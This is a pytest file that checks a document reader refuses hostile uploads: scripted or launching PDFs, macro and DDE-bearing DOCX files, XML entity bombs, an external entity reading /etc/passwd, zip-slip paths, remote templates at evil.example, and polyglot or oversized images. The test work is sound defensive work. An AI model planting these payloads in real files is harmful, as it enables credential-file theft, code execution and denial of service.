"""Every hostile file is refused with its reason (reliability S33, S34); nothing of it is run, fetched or unpacked."""

from __future__ import annotations

import io
import struct
import time
import zipfile
import zlib
from collections.abc import Callable

import pytest

import reading
from reading._judge import judge
from tests.reading.making import (
    changed_pdf,
    chunk,
    in_body,
    jpeg,
    page_pdf,
    plain_pdf,
    png,
    relation,
    rezipped,
    stream,
    word,
)  # fmt: skip

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
TYPES, RELS, BODY = "[Content_Types].xml", "word/_rels/document.xml.rels", "word/document.xml"


def declared(kind: str, part: str = "word/x.xml") -> Callable[[str], str]:
    return lambda xml: xml.replace("</Types>", f'<Override PartName="/{part}" ContentType="{kind}"/></Types>')


def archive(**parts: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in parts.items():
            made.writestr(name, content)
    return out.getvalue()


def entity_bomb(xml: str) -> str:
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    head, rest = xml.split("?>", 1)
    return f'{head}?><!DOCTYPE x [<!ENTITY l0 "lol">{levels}]>{rest.replace("<w:t>", "<w:t>&l9;", 1)}'


def outside_entity(xml: str) -> str:
    head, rest = xml.split("?>", 1)
    return f'{head}?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>{rest.replace("<w:t>", "<w:t>&e;", 1)}'


def lying(size: int) -> bytes:
    """Give a DOCX whose list says that its main part is so large."""
    content = bytearray(word())
    for mark, at_size, at_name, at_length in ((b"PK\x01\x02", 24, 46, 28), (b"PK\x03\x04", 22, 30, 26)):
        at = -1
        while (at := content.find(mark, at + 1)) >= 0:
            (length,) = struct.unpack_from("<H", content, at + at_length)
            if content[at + at_name : at + at_name + length] == BODY.encode():
                struct.pack_into("<I", content, at + at_size, size)
    return bytes(content)


def flagged() -> bytes:
    content = bytearray(word())
    at = content.find(b"PK\x01\x02")
    content[at + 8] |= 1
    return bytes(content)


def overlapping() -> bytes:
    """Give an archive in which two entries of the list are the same bytes, as in bombs without recursion."""
    content = bytearray(word())
    first = content.find(b"PK\x01\x02")
    second = content.find(b"PK\x01\x02", first + 1)
    content[second + 42 : second + 46] = content[first + 42 : first + 46]
    return bytes(content)


def hidden_between() -> bytes:
    """Give an archive with bytes between entries that its list does not name."""
    content, extra = word(), b"Rar!" + bytes(200)
    first = content.find(b"PK\x03\x04", 10)
    moved = bytearray(content[:first] + extra + content[first:])
    at = moved.find(b"PK\x01\x02")
    while at >= 0:
        (offset,) = struct.unpack_from("<I", moved, at + 42)
        if offset >= first:
            struct.pack_into("<I", moved, at + 42, offset + len(extra))
        at = moved.find(b"PK\x01\x02", at + 4)
    end = moved.rfind(b"PK\x05\x06")
    (start,) = struct.unpack_from("<I", moved, end + 16)
    struct.pack_into("<I", moved, end + 16, start + len(extra))
    return bytes(moved)


def in_object_stream() -> bytes:
    """Give a PDF whose script stands packed in a stream of objects, which only a stream of places tells."""
    held = stream(
        zlib.compress(b"5 0 << /S /JavaScript /JS (x) >>"), "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode"
    )
    body = page_pdf(held, more="/OpenAction 5 0 R")
    start = body.index(b"xref\n0")
    rows = [(0, 0, 65535), *((1, body.index(f"{n} 0 obj".encode()), 0) for n in range(1, 5)), (2, 4, 0), (1, start, 0)]
    table = b"".join(struct.pack(">BIH", *each) for each in rows)
    places = stream(table, "/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R")
    return body[:start] + b"6 0 obj\n" + places + f"\nendobj\nstartxref\n{start}\n%%EOF\n".encode()


JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
FILES: dict[str, tuple[str, Callable[[], bytes]]] = {
    # nothing, too much, something else
    "nothing": ("empty", lambda: b""),
    "blanks": ("empty", lambda: b" \r\n\0" * 50),
    "too large": ("large", lambda: b"x" * (reading.LIMIT + 1)),
    "a program": ("kind", lambda: b"MZ\x90\0" + bytes(100)),
    "a gif": ("kind", lambda: b"GIF89a" + bytes(100)),
    "an old doc": ("kind", lambda: OLE),
    "a sealed docx": ("locked", lambda: OLE + "EncryptedPackage".encode("utf-16-le")),
    "an archive": ("kind", lambda: archive(a=b"x")),
    "a text in latin-1": ("kind", lambda: "Mémo".encode("latin-1")),
    "a text in utf-16": ("kind", lambda: "Memo".encode("utf-16")),
    "a text with a control character": ("kind", lambda: b"Memo \x1b[2J"),
    "rtf": ("kind", lambda: rb"{\rtf1 Memo}"),
    "html": ("kind", lambda: b"\n <!DOCTYPE html><p>x</p>"),
    "svg": ("kind", lambda: b"<svg onload=alert(1)/>"),
    "markdown with a script": ("macros", lambda: b"# Memo\n<script>alert(1)</script>"),
    "markdown with an attribute": ("macros", lambda: b'# Memo\n<img src=x onerror="alert(1)">'),
    "markdown with a script link": ("macros", lambda: b"# Memo\n[x](javascript:alert(1))"),
    # PDF
    "pdf with a script": ("macros", lambda: page_pdf(more=f"/OpenAction {JS}")),
    "pdf with named scripts": (
        "macros", lambda: page_pdf(JS, more="/Names << /JavaScript << /Names [(a) 4 0 R] >> >>")),
    "pdf with a script of a page": ("macros", lambda: page_pdf(page=f"/AA << /O {JS} >>")),
    "pdf with a script nobody refers to": ("macros", lambda: page_pdf(JS)),
    "pdf with a spelled-out script": (
        "macros", lambda: page_pdf(more="/OpenAction << /S /#4aavaScr#69pt /J#53 (x) >>")),
    "pdf with a packed script": ("macros", in_object_stream),
    "pdf that starts a program": ("macros", lambda: page_pdf(more="/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "pdf that sends a form": ("macros", lambda: page_pdf(page="/A << /S /SubmitForm /F (https://x.org) >>")),
    "pdf that opens a file in it": ("macros", lambda: page_pdf(page="/A << /S /GoToE /T << >> >>")),
    "pdf with a file in it": ("macros", lambda: changed_pdf(lambda writer: writer.add_attachment("a.exe", b"MZ"))),
    "pdf with a file pinned on": ("macros", lambda: page_pdf(page="/Annots [<< /Subtype /FileAttachment >>]")),
    "pdf with a program's form": ("macros", lambda: page_pdf(more="/AcroForm << /Fields [] /XFA [] >>")),
    "pdf with a film": ("macros", lambda: page_pdf(page="/Annots [<< /Subtype /RichMedia >>]")),
    "pdf with a password": ("locked", lambda: changed_pdf(lambda writer: writer.encrypt("secret"))),
    "pdf with an owner's password": ("locked", lambda: changed_pdf(lambda writer: writer.encrypt("", "secret"))),
    "pdf behind something": ("polyglot", lambda: b"GIF89a" + plain_pdf()),
    "pdf with an archive behind": ("polyglot", lambda: plain_pdf() + archive(a=b"x")),
    "pdf with an archive in it": ("polyglot", lambda: plain_pdf()[:-6] + archive(a=b"x") + b"%%EOF\n"),
    "pdf with words behind": ("polyglot", lambda: plain_pdf() + b"<html>"),
    "pdf that is a page": ("polyglot", lambda: b"%PDF-1.7\n<html><script>1</script>\n" + plain_pdf()[9:]),
    "pdf cut off": ("broken", lambda: plain_pdf()[:-200]),
    "pdf of rubbish": ("broken", lambda: b"%PDF-1.7\nrubbish\nstartxref\n9\n%%EOF"),
    "pdf without pages": ("broken", lambda: b"%PDF-1.7\n%%EOF"),
    "pdf whose pages turn in a circle": (
        "broken", lambda: page_pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"),
    ),
    # DOCX
    "docx with macros": ("macros", lambda: rezipped({"word/vbaProject.bin": OLE})),
    "docx that says so": ("macros", lambda: rezipped({TYPES: declared("application/vnd.ms-office.vbaProject")})),
    "docm": ("macros", lambda: rezipped({TYPES: lambda xml: xml.replace(
        "openxmlformats-officedocument.wordprocessingml.document.main", "ms-word.document.macroEnabled.main")})),
    "docx with an object": ("macros", lambda: rezipped({"word/embeddings/oleObject1.bin": OLE})),
    "docx with a sheet in it": ("macros", lambda: rezipped({"word/embeddings/a.xlsx": archive(a=b"x")})),
    "docx with a page in it": ("macros", lambda: rezipped({"word/afchunk.html": b"<script>"})),
    "docx with a far template": ("macros", lambda: rezipped(
        {"word/_rels/settings.xml.rels": relation("attachedTemplate", "https://evil.example/t.dotm")(
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>')})),
    "docx with a far picture": ("macros", lambda: rezipped({RELS: relation("image", "https://evil.example/p.png")})),
    "docx with a far object": ("macros", lambda: rezipped({RELS: relation("oleObject", "mhtml:https://evil.example!x")})),
    "docx with a script link": ("macros", lambda: rezipped({RELS: relation("hyperlink", "javascript:alert(1)")})),
    "docx with a link into the network": (
        "macros", lambda: rezipped({RELS: relation("hyperlink", "file://evil/share")})),
    "docx with a link to a share": ("macros", lambda: rezipped({RELS: relation("hyperlink", "\\\\evil\\share")})),
    "docx with words from elsewhere": (
        "macros", lambda: rezipped({BODY: in_body('<w:fldSimple w:instr=" INCLUDETEXT x "/>')})),
    "docx with a command": ("macros", lambda: rezipped({BODY: in_body(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DD</w:instrText>'
        "<w:instrText>EAUTO c:\\cmd</w:instrText></w:r></w:p>")})),
    "docx with a simple command": (
        "macros", lambda: rezipped({BODY: in_body('<w:fldSimple w:instr=" DDE excel x "/>')})),
    "docx with an entity bomb": ("bomb", lambda: rezipped({BODY: entity_bomb})),
    "docx with a far entity": ("bomb", lambda: rezipped({BODY: outside_entity})),
    "docx with entities aside": ("bomb", lambda: rezipped({"docProps/app.xml": entity_bomb})),
    "docx too deep": ("bomb", lambda: rezipped({BODY: in_body("<w:p>" * 5000 + "</w:p>" * 5000)})),
    "docx that unpacks to too much": ("bomb", lambda: rezipped({"word/media/a.png": bytes(15_000_000)})),
    "docx with one part too large": (
        "bomb", lambda: rezipped({"customXml/a.xml": b"<a>" + b"ab" * 20_500_000 + b"</a>"})),
    "docx that lies about its size": ("bomb", lambda: lying(1_000_000_000)),
    "docx that makes itself small": ("broken", lambda: lying(50)),
    "docx with entries one over another": ("bomb", overlapping),
    "docx with too many entries": ("bomb", lambda: rezipped({f"word/{n}.xml": b"" for n in range(2_100)})),
    "docx in another packing": ("broken", lambda: rezipped(compression=zipfile.ZIP_BZIP2)),
    "docx with a way out": ("broken", lambda: rezipped({"word/../../etc/cron.d/x.xml": b"<a/>"})),
    "docx with a way out of Windows": ("broken", lambda: rezipped({"word\\..\\x.xml": b"<a/>"})),
    "docx with two bodies": ("broken", lambda: rezipped({"word/DOCUMENT.xml": b"<a/>"})),
    "docx with a password": ("locked", flagged),
    "docx with something behind": ("polyglot", lambda: word() + b"\0" * 10),
    "docx with something before": ("polyglot", lambda: b"#!/bin/sh\n" + word()),
    "docx with something between": ("polyglot", hidden_between),
    "docx behind a pdf": ("polyglot", lambda: plain_pdf() + word()),
    "docx that is a pdf": ("polyglot", lambda: b"PK\x03\x04%PDF-1.7" + word()),
    "docx cut off": ("broken", lambda: word()[:-30]),
    "docx with broken words": ("broken", lambda: rezipped({BODY: lambda xml: xml[:-20]})),
    "docx with broken bytes": ("broken", lambda: word()[:4] + word()[4:].replace(b"PK\x03\x04", b"PK\x03\x05")),
    "a workbook": (
        "kind", lambda: rezipped({TYPES: lambda xml: xml.replace("wordprocessingml.document", "spreadsheetml.sheet")})),
    # pictures
    "png with a page behind": ("polyglot", lambda: png() + b"<html><script>alert(1)</script>"),
    "png with an archive behind": ("polyglot", lambda: png() + archive(a=b"x")),
    "png with a script in it": ("polyglot", lambda: png(extra=chunk(b"tEXt", b"Comment\0<script>alert(1)</script>"))),
    "png with a packed script": (
        "polyglot", lambda: png(extra=chunk(b"zTXt", b"C\0\0" + zlib.compress(b" " * 2000 + b"<script>")))),
    "png that unpacks to too much": ("large", lambda: png(50_000, 50_000)),
    "png of a wide line": ("large", lambda: png(12_001, 1)),
    "png of no size": ("broken", lambda: png(0, 0)),
    "png with a wrong sum": ("broken", lambda: png()[:-8] + b"\0" * 8),
    "png cut off": ("broken", lambda: png()[:-6]),
    "jpeg with a page behind": ("polyglot", lambda: jpeg() + b"<html>"),
    "jpeg with an archive behind": ("polyglot", lambda: jpeg() + archive(a=b"x")),
    "jpeg with a script in it": (
        "polyglot", lambda: jpeg()[:2] + b"\xff\xfe\x00\x14<script>alert(1)" + b"\0" * 2 + jpeg()[2:]),
    "jpeg cut off": ("broken", lambda: jpeg()[:-2]),
    "jpeg of a giant": (
        "large", lambda: jpeg().replace(b"\x00\x11\x08\x00\x10\x00\x10", b"\x00\x11\x08\xff\xff\xff\xff", 1)),
}  # fmt: skip


@pytest.mark.parametrize("name", FILES)
def test_refused(name: str) -> None:
    why, build = FILES[name]
    content = build()
    started = time.process_time()
    with pytest.raises(Exception) as found:  # noqa: PT011 - what the child makes "broken" of is any error
        judge(content)
    got = found.value.why if isinstance(found.value, reading.Refused) else "broken"
    assert got == why
    assert time.process_time() - started < 3


@pytest.mark.parametrize(
    "name",
    ["pdf with a script", "pdf whose pages turn in a circle", "docx with an entity bomb", "png cut off", "nothing"],
)
def test_refused_by_the_child_as_well(name: str) -> None:
    why, build = FILES[name]
    with pytest.raises(reading.Refused) as found:
        reading.read(build(), "a.pdf")
    assert found.value.why == why


@pytest.mark.parametrize("ending", ["html", "csv", "svg", "js", "PS1"])
def test_a_name_may_say_that_a_text_is_no_document(ending: str) -> None:
    with pytest.raises(reading.Refused):
        judge(b"Plain words.", ending)
